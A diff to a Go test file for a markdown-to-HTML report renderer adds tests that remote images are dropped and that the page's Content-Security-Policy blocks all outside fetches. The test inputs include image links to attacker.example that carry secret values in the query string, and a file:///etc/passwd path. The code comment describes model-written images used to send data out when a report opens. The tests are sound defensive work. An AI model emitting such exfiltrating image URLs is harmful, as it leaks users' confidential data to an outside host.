@@ -236,7 +236,7 @@ func TestRenderReportHTMLProblemImages(t *testing.T) {
 		{"symlink escape refused", "![s](out/sneaky.png)",
 			`<p><a href="out/sneaky.png">s</a> <em class="sift-note">(not inlined: out/sneaky.png is outside the report folder)</em></p>`},
 		{"file scheme refused", "![f](file:///etc/passwd.png)",
-			`<p><a href="">f</a> <em class="sift-note">(not inlined: file:///etc/passwd.png is neither a local file nor an http(s) image)</em></p>`},
+			`<p><a href="">f</a> <em class="sift-note">(not inlined: file:///etc/passwd.png is not a file in the report folder)</em></p>`},
 		{"unsupported type", "![doc](out/doc.bmp)",
 			`<p><a href="out/doc.bmp">doc</a> <em class="sift-note">(not inlined: out/doc.bmp is not a png, jpeg, gif, svg or webp image)</em></p>`},
 		{"directory named like an image", "![d](out/dir.png)",
@@ -247,10 +247,12 @@ func TestRenderReportHTMLProblemImages(t *testing.T) {
 			`<p><a href="https://example.com">s <em class="sift-note">(not inlined: ../secret.png is outside the report folder)</em></a></p>`},
 		{"note text is escaped", "![x](out/<b>.png)",
 			`<p>x <em class="sift-note">(missing: out/&lt;b&gt;.png)</em></p>`},
-		{"remote image left as is", "![r](https://example.com/chart.png)",
-			`<p><img src="https://example.com/chart.png" alt="r"></p>`},
-		{"protocol-relative image left as is", "![r](//example.com/chart.png)",
-			`<p><img src="//example.com/chart.png" alt="r"></p>`},
+		{"remote image dropped", "![r](https://example.com/chart.png?d=secret)",
+			`<p>r <em class="sift-note">(remote image from example.com not shown: a report fetches nothing when opened)</em></p>`},
+		{"protocol-relative image dropped", "![r](//example.com/chart.png)",
+			`<p>r <em class="sift-note">(remote image from example.com not shown: a report fetches nothing when opened)</em></p>`},
+		{"plain http image dropped inside a link", "[![r](http://example.com/c.png)](https://example.com)",
+			`<p><a href="https://example.com">r <em class="sift-note">(remote image from example.com not shown: a report fetches nothing when opened)</em></a></p>`},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -325,5 +327,41 @@ func BenchmarkRenderReportHTML(b *testing.B) {
 		if _, err := RenderReportHTML("Bench", src, base); err != nil {
 			b.Fatal(err)
 		}
+	}
+}
+
+// TestRenderReportHTMLFetchesNothing: a model-written image that would send
+// the data out when the report is opened (![](https://x/?d=...)) is
+// dropped with a note, a local image beside it is still inlined, and the
+// page's Content-Security-Policy allows no http(s) source at all.
+func TestRenderReportHTMLFetchesNothing(t *testing.T) {
+	base := t.TempDir()
+	writeReportFile(t, filepath.Join(base, "out", "a.png"), tinyPNG(t))
+	md := "# Leak\n\n![](https://attacker.example/p.png?d=revenue-2024-secret)\n\n" +
+		"![x](HTTP://attacker.example/q.gif?d=secret2) ![y](//attacker.example/r.png?d=secret3)\n\n" +
+		"[ref]: https://attacker.example/s.png?d=secret4\n\n![z][ref]\n\n![chart](out/a.png)\n"
+	page := render(t, md, base)
+	for _, bad := range []string{"secret", "src=\"http", "src=\"//", "href=\"http://attacker", "https://attacker"} {
+		if strings.Contains(page, bad) {
+			t.Errorf("report.html contains %q; it must fetch nothing remote:\n%s", bad, body(t, page))
+		}
+	}
+	if n := strings.Count(page, "remote image from attacker.example not shown"); n != 4 {
+		t.Errorf("%d notes about the dropped remote images, want 4:\n%s", n, body(t, page))
+	}
+	if !strings.Contains(page, `src="data:image/png;base64,`) {
+		t.Errorf("the local image was not inlined:\n%s", body(t, page))
+	}
+	csp := regexp.MustCompile(`<meta http-equiv="Content-Security-Policy" content="([^"]*)">`).FindStringSubmatch(page)
+	if csp == nil {
+		t.Fatalf("report.html has no Content-Security-Policy meta:\n%s", page)
+	}
+	for _, bad := range []string{"http:", "https:", "*", "'self'"} {
+		if strings.Contains(csp[1], bad) {
+			t.Errorf("the report's CSP %q allows %s sources", csp[1], bad)
+		}
+	}
+	if !strings.Contains(csp[1], "default-src 'none'") {
+		t.Errorf("the report's CSP %q does not default to 'none'", csp[1])
 	}
 }
